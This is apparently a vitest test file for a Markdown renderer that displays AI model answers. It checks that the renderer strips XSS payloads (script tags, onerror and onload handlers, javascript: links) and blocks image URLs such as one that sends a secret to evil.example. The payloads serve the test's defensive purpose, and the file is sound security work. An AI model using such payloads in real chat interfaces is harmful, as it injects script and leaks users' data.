import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown'

describe('renderMarkdown', () => {
  it.each([
    '<script>window.pwned = 1</script>',
    '<img src=x onerror="window.pwned = 1">',
    '[click](javascript:window.pwned=1)',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="window.pwned=1"></svg>',
    '```html\n<script>alert(1)</script>\n```',
  ])('never lets script from a model answer into the DOM: %s', (answer) => {
    const html = renderMarkdown(answer)
    const box = document.createElement('div')
    box.innerHTML = html
    expect(box.querySelector('script, iframe, svg')).toBeNull()
    for (const element of box.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith('on'), `${element.tagName} ${attribute.name}`).toBe(false)
        expect(attribute.value.trim().toLowerCase().startsWith('javascript:')).toBe(false)
      }
    }
    expect(html).not.toMatch(/<script/i)
  })

  it('renders Markdown, tables and highlighted code', () => {
    const html = renderMarkdown('**bold**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("hi")\n```')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<table>')
    expect(html).toContain('hljs')
    expect(html).toContain('data-lang="python"')
  })

  it('opens links in a new tab without access to the opener', () => {
    const html = renderMarkdown('see https://example.com')
    expect(html).toContain('target="_blank"')
    expect(html).toContain('rel="noopener noreferrer nofollow"')
  })
})

describe('math', () => {
  it('keeps formulas intact for KaTeX, and leaves money and code alone', async () => {
    const { hasMath, typesetMath } = await import('./math')
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown('Euler: $e^{i\\pi} + 1 = 0$, also \\(a\\,b\\)\n\n$$\\int_0^1 x\\,dx$$\n\nIt costs $5 and $6. `$x$`')
    const spans = [...box.querySelectorAll('span.math')]
    expect(spans.map((s) => [s.textContent, (s as HTMLElement).dataset.display])).toEqual([
      ['e^{i\\pi} + 1 = 0', '0'],
      ['a\\,b', '0'],
      ['\\int_0^1 x\\,dx', '1'],
    ])
    expect(box.textContent).toContain('costs $5 and $6')
    expect(box.querySelector('code')?.textContent).toBe('$x$')
    expect(hasMath(box)).toBe(true)
    Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat', configurable: true })
    await typesetMath(box)
    expect(box.querySelectorAll('.katex').length).toBe(3)
    expect(hasMath(box)).toBe(false)
  })

  it.each([
    '![chart](https://evil.example/collect?secret=4711)',
    '![](https://evil.example/pixel.png)',
    '![x][ref]\n\n[ref]: https://evil.example/ref.png',
    '<img src="https://evil.example/raw.png">',
    '![x](//evil.example/protocol-relative.png)',
    '![x](/api/avatars/abc.webp)',
  ])('never makes the browser fetch an image from a model answer: %s', (answer) => {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown(answer)
    expect(box.querySelectorAll('img').length).toBe(0)
  })

  it('shows a remote image as a link the reader may open, and an inline one as it is', () => {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown('![the chart](https://img.example/c.png)')
    const link = box.querySelector('a[data-image]') as HTMLAnchorElement
    expect(link.getAttribute('href')).toBe('https://img.example/c.png')
    expect(link.textContent).toContain('the chart')
    expect(link.getAttribute('rel')).toContain('noreferrer')
    const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
    box.innerHTML = renderMarkdown(`![dot](${pixel})`)
    expect(box.querySelector('img')?.getAttribute('src')).toBe(pixel)
  })
})
